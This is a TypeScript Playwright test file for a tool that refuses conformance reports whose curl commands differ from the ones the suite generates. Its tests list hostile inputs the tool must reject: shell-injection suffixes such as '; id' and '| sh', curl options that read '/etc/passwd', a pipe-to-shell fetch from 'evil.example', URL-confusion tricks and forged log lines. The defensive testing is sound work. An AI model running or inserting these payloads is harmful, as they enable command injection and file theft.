import { writeFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { askedBy, isOfSuite } from '../../../evidence/shell-command.ts';
import { commandFor } from '../../../reporters/packed/command.ts';
import { ReportError, readReport } from '../../../reporters/read.ts';
import { renderJson } from '../../../reporters/render/json.ts';
import { wholeReport } from './gate-kit.ts';
import { exchangeWith } from './golden/make.ts';

// Whoever reads a report of somebody else's copies its commands into a shell.

const URL = 'https://staging.acme.example/Orders/Create';
const { request } = exchangeWith();
const taken = (curl: string, url = URL): boolean => isOfSuite({ curl, request: { ...request, url } });
/** The whole command of it, to another address. */
const whole = (url = URL): string => commandFor({ ...request, url }) ?? '';

test('a command that the suite words is taken, with all that it asks for', () => {
  const takenOf = (over: Partial<typeof request>): boolean =>
    isOfSuite({ curl: commandFor({ ...request, ...over }) ?? '', request: { ...request, ...over } });
  for (const body of [null, '', '{"a":"it\'s"}', 'two\nlines\u0000', 'x'.repeat(5000)])
    for (const method of ['POST', 'GET', 'HEAD', 'x y']) expect(takenOf({ method, body })).toBe(true);
  expect(
    takenOf({
      headers: [
        ['X-<PASSWORD>Key', '<API_KEY>'],
        ['Empty', ''],
      ],
      url: `${URL}?a=[1-9]`,
    }),
  ).toBe(true);
  const sent = "-H 'Accept:' -H 'User-Agent:'";
  const json = `-H 'Content-Type: application/json' ${sent}`;
  const of = (curl: string, over: Partial<typeof request>): boolean =>
    isOfSuite({ curl, request: { ...request, headers: [], url: URL, ...over } });
  const lines = [['Content-Type', 'application/json']] as const;
  for (const [curl, over] of [
    [`curl -sS -i -X POST --http1.0 ${URL} ${sent} -H 'Content-Type:' --data-raw '{}'`, { body: '{}' }],
    [
      `curl -sS -i -X POST --http1.1 -g --request-target ${URL} ${URL} ${json} --data-raw ''`,
      { headers: lines, body: null },
    ],
    [
      `printf '%b' '\\0037\\0213' | curl -sS -i -X POST ${URL} ${json} -H 'Expect:' --data-binary @-`,
      { headers: lines, body: '\u001f\ufffd' },
    ],
    // Without a word of a body, as curl sends it where it is given none.
    [`curl -sS -i -X POST ${URL} ${json}`, { headers: lines, body: null }],
    [`curl -sS -i -X POST ${URL} ${json} --data-raw '<BODY of 139431 bytes>'`, { headers: lines, bodyBytes: 139_431 }],
  ] as const)
    expect(of(curl, over), curl).toBe(true);
  expect(of(`curl -sS -i -X POST ${URL} ${json}`, { headers: lines, body: '' })).toBe(false);
  expect(
    of(`curl -sS -i -X GET '<BASE_URL>/a?key=<API_KEY>' ${sent}`, {
      ...{ method: 'GET', body: null, url: '/a?key=<literal API_KEY>' },
    }),
  ).toBe(true);
  expect(
    of(
      `curl -sS -i -X POST '<NOTIFICATION_URL>' -H 'Apikey: <API_KEY>' ${json} --data-raw '{}'`.replace(`${sent} `, ''),
      {
        ...{ url: '/hook', headers: lines, body: '{}' },
      },
    ),
  ).toBe(false);
  for (const name of ['Content-Type', 'content-type'])
    expect(
      of(`curl -sS -i -X POST '<NOTIFICATION_URL>' -H 'Apikey: <API_KEY>' ${json} --data-raw '{}'`, {
        ...{
          url: '/hook',
          headers: [
            ['apikey', '<API_KEY>'],
            [name, 'application/json'],
          ],
          body: '{}',
        },
      }),
    ).toBe(true);
  expect(askedBy(`curl -sS --head ${URL}`)).toMatchObject({ addresses: [URL], piped: null });
});

test('a header line with a tab is spelt, and nothing but signs by their numbers is', () => {
  const headers = [['Authorization', 'Bearer\t<ACCESS_TOKEN>']] as const;
  const of = (line: string): boolean =>
    isOfSuite({
      curl: `curl -sS -i -X GET ${URL} ${line} -H 'Accept:' -H 'User-Agent:'`,
      request: { ...request, method: 'GET', url: URL, headers, body: null, bodyBytes: 0 },
    });
  expect(of(`-H "$(printf '%b' 'Authorization: Bearer\\0011<ACCESS_TOKEN>')"`)).toBe(true);
  for (const [part, other] of [
    ['\\0011', '\\0012'],
    ['\\0011', '\\0011\\c'],
    ['\\0011', "\\0011'$(id)'"],
    ['\')"', '\'; id)"'],
    ['\')"', '\')$(id)"'],
    ['printf', 'curl'],
  ] as const) {
    const line = `-H "$(printf '%b' 'Authorization: Bearer\\0011<ACCESS_TOKEN>')"`;
    expect(line).toContain(part);
    expect(of(line.replace(part, () => other)), other).toBe(false);
  }
});

test('a command is the whole of its request', () => {
  const headers = [
    ['Authorization', '<ACCESS_TOKEN>'],
    ['X-A', '1'],
    ['X-A', '1'],
  ] as const;
  const whole = { ...request, url: URL, headers, body: 'a\u0001b', bodyBytes: 3 };
  const plain = { ...whole, body: '{"a":1}', bodyBytes: 7 };
  const commands = [whole, plain].map((one) => [one, commandFor(one) ?? ''] as const);
  for (const [one, curl] of commands) {
    expect(isOfSuite({ curl, request: one }), curl).toBe(true);
    for (const part of [
      ...[' -X POST', " -H 'Authorization: <ACCESS_TOKEN>'", " -H 'X-A: 1'", " -H 'Accept:'", " -H 'Content-Type:'"],
      ...[" -H 'User-Agent:'", ` --data-raw '{"a":1}'`, ' --data-binary @-', /^printf .* \| /],
    ]) {
      const less = curl.replace(part, '');
      if (less !== curl) expect(isOfSuite({ curl: less, request: one }), less).toBe(false);
    }
    for (const [part, other] of [
      [` --data-raw '{"a":1}'`, ` --data-raw '{"a":1}' --data-raw '{"a":1}'`],
      [` --data-raw '{"a":1}'`, ` --data-raw '<BODY of 9000 bytes>'`],
      [` --data-raw '{"a":1}'`, ` --data-raw ''`],
      ['\\0001', '\\0002'],
      ['\\0001', '\\c'],
      [" -H 'X-A: 1'", " -H 'X-A: 1' -H 'X-A: 1'"],
      [' -X POST', ' -X POST --head'],
      [' -X POST', ' -X POST -X POST'],
    ] as const) {
      const bent = curl.replace(part, () => other);
      if (bent !== curl) expect(isOfSuite({ curl: bent, request: one }), bent).toBe(false);
    }
  }
});

test('of lines that a record cuts, a command may have more', () => {
  const cut = {
    ...request,
    url: URL,
    headers: [['X-Long', 'abc…']] as const,
    headersCut: true,
    body: null,
    method: 'GET',
  };
  const takenWith = (lines: string): boolean =>
    isOfSuite({ curl: `curl -sS -i -X GET ${URL} ${lines} -H 'Accept:' -H 'User-Agent:'`, request: cut });
  expect(takenWith("-H 'X-Long: abcdef' -H 'X-More: g'")).toBe(true);
  expect(takenWith("-H 'X-Long: other'")).toBe(false);
  expect(takenWith('')).toBe(false);
  expect(takenWith("-H 'X-Long: abcdef' -H '@/etc/passwd'")).toBe(false);
});

test('a header that curl takes for a file is asked for by no command', () => {
  for (const [name, value] of [
    ['@/etc/passwd', ''],
    ['@a', 'b'],
  ] as const) {
    const one = { ...request, headers: [[name, value]] as const };
    expect(commandFor(one), name).toBeNull();
    for (const line of [`${name};`, `${name}: ${value}`])
      expect(isOfSuite({ curl: `${commandFor({ ...one, headers: [] }) ?? ''} -H '${line}'`, request: one }), line).toBe(
        false,
      );
  }
});

test('a command that asks the shell or curl for anything else is none of the suite', () => {
  expect(taken(whole())).toBe(true);
  for (const more of [
    ...[
      '; id',
      ' | sh',
      ' && id',
      ' & id',
      '\nid',
      ' > a',
      ' < a',
      ' `id`',
      ' $(id)',
      ' "$(id)"',
      ' $HOME',
      ' #',
      ' *',
    ],
    ...[
      ' -o a',
      ' -K a',
      " '-K' a",
      ' --config a',
      ' -d @/etc/passwd',
      ' --data-binary @/etc/passwd',
      ' -T a',
      ' -x a',
    ],
    ...[" -H '@/etc/passwd'", ' -H @a', " -H ''", ' https://evil.example', ' -F a=@b', ' --next', ' -Ka', " '"],
    // What the request did not send, and what a terminal takes for keys.
    ...[' -X DELETE', " -H 'Authorization: Bearer x'", " -H 'Host: evil.example'", ` --data-raw '{"all":true}'`],
    ...[' --request-target /Admin', ' --data-binary @-', ' --head', ` --data-raw 'a\u0003\nid\n'`, ` -X 'POST\r\n'`],
  ])
    expect(taken(`${whole()}${more}`), more).toBe(false);
  for (const other of [
    ...['', 'curl', 'sh', `wget ${URL}`, `curl ${URL}/other`, `curl 'https://evil.example/'`, `id; curl ${URL}`],
    ...[`printf '%b' 'a' | sh`, `printf '%b' "$(id)" | curl ${URL}`, `printf '%b' 'a' | tee b | curl ${URL}`],
    ...[`curl '${URL}`, `CURL ${URL}`, `curl\t${URL}`, `curl ${URL}'; id'`],
  ])
    expect(taken(other), other).toBe(false);
});

test('an address that curl reads otherwise than a browser is none of a command', () => {
  for (const url of [
    ...['file:///etc/passwd', 'https://good.example\\@evil.example/', 'https://a@evil.example/', `${URL}?n=[1-999]`],
    ...[`${URL}/{a,b}`, 'https:/evil.example'],
  ])
    expect(taken(whole(url).replace(' -g ', ' '), url), url).toBe(false);
  for (const url of ['@evil.example/x', '.evil.example/x'])
    expect(taken(whole('/x').replace('<BASE_URL>/x', `<BASE_URL>${url}`), url), url).toBe(false);
  expect(taken(whole('/x'), '/x')).toBe(true);
});

test('a report with such a command is not read, and says so on one line', ({}, info) => {
  const report = wholeReport();
  const [first] = report.cells;
  const cells = report.cells.map((cell) =>
    cell !== first
      ? cell
      : {
          ...cell,
          exchanges: cell.exchanges.map((one) => ({ ...one, curl: 'curl -sS https://evil.example/x | sh' })),
        },
  );
  const path = info.outputPath('conformance.json');
  writeFileSync(path, renderJson({ ...report, cells }));
  const name = `${first?.rule ?? ''} × ${first?.subject ?? ''}`;
  expect(() => readReport(path)).toThrow(
    `a command of ${name} is none that the suite makes for its request. Run none of it`,
  );
});

test('what a report says cannot begin a line of its refusal', () => {
  const forged = 'a\n::notice ::CONFORMANT\r\n  gate       certify: passed\u001b[2J';
  expect(new ReportError(`it shows ${forged}`).message).toBe(
    'it shows a\\n::notice ::CONFORMANT\\r\\n  gate       certify: passed\\u{1B}[2J',
  );
});
